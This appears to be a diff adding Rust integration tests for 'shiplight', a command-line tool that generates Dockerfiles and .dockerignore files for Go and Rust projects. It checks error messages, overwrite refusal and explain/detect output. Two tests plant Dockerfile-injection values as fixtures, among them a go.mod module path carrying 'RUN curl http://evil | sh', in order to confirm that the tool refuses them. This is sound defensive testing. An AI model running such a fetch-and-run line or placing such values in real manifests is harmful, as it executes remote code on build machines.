@@ -1,0 +1,351 @@
+//! The binary's behaviour: exit codes, messages, and what it does to files on disk.
+
+use assert_cmd::Command;
+use std::fs;
+use std::path::Path;
+
+fn shiplight() -> Command {
+    let mut cmd = Command::cargo_bin("shiplight").unwrap();
+    cmd.env("SHIPLIGHT_CARGO_METADATA", "never");
+    cmd
+}
+
+fn fixture(name: &str) -> String {
+    format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"))
+}
+
+fn copy_dir(from: &Path, to: &Path) {
+    fs::create_dir_all(to).unwrap();
+    for entry in fs::read_dir(from).unwrap() {
+        let entry = entry.unwrap();
+        let target = to.join(entry.file_name());
+        if entry.file_type().unwrap().is_dir() {
+            copy_dir(&entry.path(), &target);
+        } else {
+            fs::copy(entry.path(), target).unwrap();
+        }
+    }
+}
+
+fn stderr_of(cmd: &mut Command, code: i32) -> String {
+    let output = cmd.output().unwrap();
+    assert_eq!(
+        output.status.code(),
+        Some(code),
+        "stderr: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    String::from_utf8(output.stderr).unwrap()
+}
+
+#[test]
+fn nothing_detected_says_what_was_looked_for() {
+    let dir = tempfile::tempdir().unwrap();
+    let err = stderr_of(shiplight().arg("init").arg(dir.path()), 2);
+    assert!(err.contains("no supported project found"), "{err}");
+    assert!(err.contains("go.mod or go.work (Go)"), "{err}");
+    assert!(err.contains("Cargo.toml (Rust)"), "{err}");
+    assert!(!dir.path().join("Dockerfile").exists());
+}
+
+#[test]
+fn several_main_packages_are_listed_with_the_flag() {
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout"])
+            .arg(fixture("go-cmd-multi")),
+        2,
+    );
+    assert!(
+        err.contains("several main packages: ./cmd/api, ./cmd/worker"),
+        "{err}"
+    );
+    assert!(err.contains("--go-main"), "{err}");
+}
+
+#[test]
+fn several_rust_binaries_are_listed_with_the_flag() {
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout"])
+            .arg(fixture("rust-workspace")),
+        2,
+    );
+    assert!(
+        err.contains("several binaries: api, reindex, worker"),
+        "{err}"
+    );
+    assert!(err.contains("--rust-bin"), "{err}");
+}
+
+#[test]
+fn unknown_main_package_lists_the_real_ones() {
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout", "--go-main", "./cmd/nope"])
+            .arg(fixture("go-cmd-multi")),
+        2,
+    );
+    assert!(
+        err.contains("--go-main ./cmd/nope: no such main package; found: ./cmd/api, ./cmd/worker"),
+        "{err}"
+    );
+}
+
+#[test]
+fn broken_go_mod_names_file_and_line() {
+    let dir = tempfile::tempdir().unwrap();
+    fs::write(
+        dir.path().join("go.mod"),
+        "module example.com/x\n\nrequire (\n\tgithub.com/a/b v1.0.0\n",
+    )
+    .unwrap();
+    let err = stderr_of(shiplight().arg("init").arg(dir.path()), 2);
+    assert!(
+        err.contains("go.mod:3: the require block is never closed"),
+        "{err}"
+    );
+}
+
+#[test]
+fn broken_cargo_toml_names_file_and_line() {
+    let dir = tempfile::tempdir().unwrap();
+    fs::write(
+        dir.path().join("Cargo.toml"),
+        "[package]\nname = \"x\"\nversion = \"0.1.0\n",
+    )
+    .unwrap();
+    let err = stderr_of(shiplight().arg("init").arg(dir.path()), 2);
+    assert!(err.contains("Cargo.toml:3: invalid TOML"), "{err}");
+}
+
+#[test]
+fn hostile_module_path_is_refused_naming_the_file() {
+    let dir = tempfile::tempdir().unwrap();
+    fs::write(
+        dir.path().join("go.mod"),
+        "module \"x\\nRUN curl http://evil | sh\"\n",
+    )
+    .unwrap();
+    fs::write(dir.path().join("main.go"), "package main\nfunc main() {}\n").unwrap();
+    let err = stderr_of(shiplight().args(["init", "--stdout"]).arg(dir.path()), 2);
+    assert!(err.contains("go.mod:1: module path"), "{err}");
+}
+
+#[test]
+fn hostile_binary_name_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    fs::create_dir_all(dir.path().join("src/bin")).unwrap();
+    fs::write(dir.path().join("Cargo.toml"), "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[[bin]]\nname = \"a\\\"]\\nRUN id #\"\npath = \"src/main.rs\"\n").unwrap();
+    fs::write(dir.path().join("src/main.rs"), "fn main() {}\n").unwrap();
+    let err = stderr_of(shiplight().args(["init", "--stdout"]).arg(dir.path()), 2);
+    assert!(
+        err.contains("binary name") && err.contains("cannot be used in a Dockerfile"),
+        "{err}"
+    );
+}
+
+#[test]
+fn existing_dockerfile_is_left_untouched_and_nothing_is_written() {
+    let dir = tempfile::tempdir().unwrap();
+    copy_dir(Path::new(&fixture("go-basic")), dir.path());
+    fs::write(dir.path().join("Dockerfile"), "FROM scratch\n# mine\n").unwrap();
+    let err = stderr_of(shiplight().arg("init").arg(dir.path()), 1);
+    assert!(
+        err.contains("already exists") && err.contains("--force"),
+        "{err}"
+    );
+    assert_eq!(
+        fs::read_to_string(dir.path().join("Dockerfile")).unwrap(),
+        "FROM scratch\n# mine\n"
+    );
+    assert!(
+        !dir.path().join(".dockerignore").exists(),
+        "all or nothing: .dockerignore was written"
+    );
+
+    shiplight()
+        .args(["init", "--force"])
+        .arg(dir.path())
+        .assert()
+        .success();
+    let written = fs::read_to_string(dir.path().join("Dockerfile")).unwrap();
+    assert!(
+        written.contains("FROM gcr.io/distroless/static-debian13:${RUNTIME_TAG}"),
+        "{written}"
+    );
+    assert!(dir.path().join(".dockerignore").exists());
+    let leftovers: Vec<_> = fs::read_dir(dir.path())
+        .unwrap()
+        .filter_map(|e| e.unwrap().file_name().into_string().ok())
+        .filter(|name| name.starts_with(".shiplight-"))
+        .collect();
+    assert!(leftovers.is_empty(), "temporary files left: {leftovers:?}");
+}
+
+#[test]
+fn init_writes_both_files_and_stdout_writes_none() {
+    let dir = tempfile::tempdir().unwrap();
+    copy_dir(Path::new(&fixture("rust-basic")), dir.path());
+    shiplight()
+        .args(["init", "--stdout"])
+        .arg(dir.path())
+        .assert()
+        .success();
+    assert!(!dir.path().join("Dockerfile").exists());
+    let out = shiplight().arg("init").arg(dir.path()).output().unwrap();
+    assert!(out.status.success());
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    assert!(
+        stdout.contains("wrote") && stdout.contains("static-debian13"),
+        "{stdout}"
+    );
+    assert!(
+        fs::read_to_string(dir.path().join(".dockerignore"))
+            .unwrap()
+            .contains("\ntarget\n")
+    );
+}
+
+#[test]
+fn two_stacks_need_a_choice() {
+    let dir = tempfile::tempdir().unwrap();
+    copy_dir(Path::new(&fixture("go-basic")), dir.path());
+    copy_dir(Path::new(&fixture("rust-basic")), dir.path());
+    let err = stderr_of(shiplight().args(["init", "--stdout"]).arg(dir.path()), 2);
+    assert!(
+        err.contains("several stacks: go, rust") && err.contains("--stack"),
+        "{err}"
+    );
+    let out = shiplight()
+        .args([
+            "init",
+            "--stdout",
+            "--only",
+            "dockerfile",
+            "--stack",
+            "rust",
+        ])
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8(out.stdout)
+            .unwrap()
+            .contains("cargo build")
+    );
+}
+
+#[test]
+fn chainguard_with_system_openssl_is_refused_with_the_way_out() {
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout", "--vendor", "chainguard"])
+            .arg(fixture("rust-openssl")),
+        2,
+    );
+    assert!(err.contains("glibc-dynamic has no libssl"), "{err}");
+    assert!(
+        err.contains("Cargo.lock:"),
+        "the decision path shows its evidence: {err}"
+    );
+}
+
+#[test]
+fn runtime_below_what_the_project_needs_is_refused() {
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout", "--runtime", "static"])
+            .arg(fixture("go-cgo")),
+        2,
+    );
+    assert!(err.contains("needs at least base"), "{err}");
+    let err = stderr_of(
+        shiplight()
+            .args(["init", "--stdout", "--runtime", "base"])
+            .arg(fixture("rust-basic")),
+        2,
+    );
+    assert!(err.contains("Rust runs on static, cc only"), "{err}");
+}
+
+#[test]
+fn no_syntax_drops_the_frontend_line() {
+    let with = shiplight()
+        .args(["init", "--stdout", "--only", "dockerfile"])
+        .arg(fixture("go-basic"))
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8(with.stdout)
+            .unwrap()
+            .starts_with("# syntax=docker/dockerfile:1\n")
+    );
+    let without = shiplight()
+        .args(["init", "--stdout", "--only", "dockerfile", "--no-syntax"])
+        .arg(fixture("go-basic"))
+        .output()
+        .unwrap();
+    let text = String::from_utf8(without.stdout).unwrap();
+    assert!(!text.contains("syntax="), "{text}");
+}
+
+#[test]
+fn explain_shows_evidence_and_images() {
+    let out = shiplight()
+        .arg("explain")
+        .arg(fixture("go-cgo"))
+        .output()
+        .unwrap();
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(
+        text.contains("Does the main package need cgo? -> yes"),
+        "{text}"
+    );
+    assert!(
+        text.contains("internal/native/native.go:7: import \"C\""),
+        "{text}"
+    );
+    assert!(text.contains("builder: golang:1.26-trixie"), "{text}");
+    assert!(
+        text.contains("runtime: gcr.io/distroless/base-debian13:nonroot (base)"),
+        "{text}"
+    );
+}
+
+#[test]
+fn explain_tree_prints_every_stack() {
+    let out = shiplight().args(["explain", "--tree"]).output().unwrap();
+    let text = String::from_utf8(out.stdout).unwrap();
+    insta::with_settings!({snapshot_path => "../snapshots", prepend_module_to_snapshot => false, omit_expression => true}, {
+        insta::assert_snapshot!("explain-tree", text);
+    });
+}
+
+#[test]
+fn detect_lists_facts_with_evidence() {
+    let out = shiplight()
+        .arg("detect")
+        .arg(fixture("rust-openssl"))
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(text.contains("go: absent (no go.mod or go.work)"), "{text}");
+    assert!(text.contains("rust: found"), "{text}");
+    assert!(text.contains("Cargo.lock:"), "{text}");
+    let json = shiplight()
+        .args(["detect", "--json"])
+        .arg(fixture("go-pure-sqlite"))
+        .output()
+        .unwrap();
+    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
+    assert_eq!(value[0]["status"], "found");
+    assert_eq!(value[0]["facts"]["cgo_requires"], serde_json::json!([]));
+}
+
+#[test]
+fn detect_in_an_empty_directory_exits_2() {
+    let dir = tempfile::tempdir().unwrap();
+    shiplight().arg("detect").arg(dir.path()).assert().code(2);
+}
